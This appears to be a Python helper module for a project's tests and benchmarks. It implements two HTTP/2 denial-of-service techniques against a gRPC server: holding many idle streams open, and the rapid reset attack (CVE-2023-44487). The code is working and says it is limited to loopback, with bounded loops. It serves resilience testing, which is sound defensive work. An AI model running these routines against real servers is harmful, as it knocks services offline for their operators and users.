"""A stranger on HTTP/2: idle streams and rapid reset (CVE-2023-44487) against a gRPC server,
with the ``h2`` library (imported when used). Loopback only; every loop bounded in count and
time. Used by ``tests/test_idle_streams.py`` and ``benchmarks/stranger_streams.py``.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

__all__ = ["connect", "idle_streams", "rapid_reset"]


def connect(host: str, port: int) -> tuple[socket.socket, Any]:
    """A raw HTTP/2 connection (its preface and SETTINGS sent): the socket and h2's state."""
    import h2.config
    import h2.connection

    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(host: str, port: int, path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


@contextlib.contextmanager
def idle_streams(
    host: str, port: int, path: str, streams: int, connections: int
) -> Iterator[dict[str, int]]:
    """Hold ``streams`` streams of ``path`` open (headers sent, no message, no end) over
    ``connections`` connections until the block ends."""
    held: list[socket.socket] = []
    opened = 0
    try:
        per = -(-streams // connections)
        for _ in range(connections):
            sock, conn = connect(host, port)
            held.append(sock)
            for _ in range(min(per, streams - opened)):
                conn.send_headers(conn.get_next_available_stream_id(), _headers(host, port, path))
                opened += 1
            sock.sendall(conn.data_to_send())
        yield {"idle_streams": opened, "connections": len(held)}
    finally:
        for sock in held:
            sock.close()


@contextlib.contextmanager
def rapid_reset(
    host: str, port: int, path: str, limit: int, seconds: float
) -> Iterator[dict[str, int]]:
    """Open streams of ``path`` and reset each at once, on one connection from a thread, at
    most ``limit`` of them and for at most ``seconds``, until the block ends."""
    import h2.errors

    counts = {"reset_streams": 0}
    stop = threading.Event()

    def attack() -> None:
        deadline = time.monotonic() + seconds
        sock, conn = connect(host, port)
        sock.settimeout(2)
        try:
            while not stop.is_set() and counts["reset_streams"] < limit:
                if time.monotonic() > deadline:
                    break
                for _ in range(100):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, _headers(host, port, path))
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    counts["reset_streams"] += 1
                try:
                    sock.sendall(conn.data_to_send())
                    sock.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while sock.recv(65536):
                            pass  # the server's frames: read and dropped
                    sock.settimeout(2)
                except OSError:
                    break  # the server closed the connection: the attack is over
        finally:
            sock.close()

    thread = threading.Thread(target=attack, daemon=True)
    thread.start()
    try:
        yield counts
    finally:
        stop.set()
        thread.join(10)
